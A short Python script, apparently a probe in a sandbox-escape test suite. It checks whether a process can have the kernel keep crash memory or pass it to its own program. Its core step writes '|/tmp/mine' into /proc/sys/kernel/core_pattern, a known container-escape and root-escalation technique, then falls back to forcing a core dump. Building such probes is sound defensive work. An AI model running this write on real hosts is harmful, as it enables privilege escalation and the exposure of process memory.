#!/usr/bin/env python3
"""Has the kernel keep the memory of a process that crashes, or hand it to a program of its own."""

import os
import resource
import signal
from contextlib import suppress

from attack import attack


def keeps() -> bool:
    try:
        with open("/proc/sys/kernel/core_pattern", "w") as pattern:
            pattern.write("|/tmp/mine")
    except OSError:
        pass
    else:
        return True
    with suppress(ValueError):
        resource.setrlimit(resource.RLIMIT_CORE, (1, 1))
    child = os.fork()
    if not child:
        os.chdir(os.environ["TMPDIR"])
        os.kill(os.getpid(), signal.SIGQUIT)
    _, status = os.waitpid(child, 0)
    return os.WCOREDUMP(status)


attack(keeps)
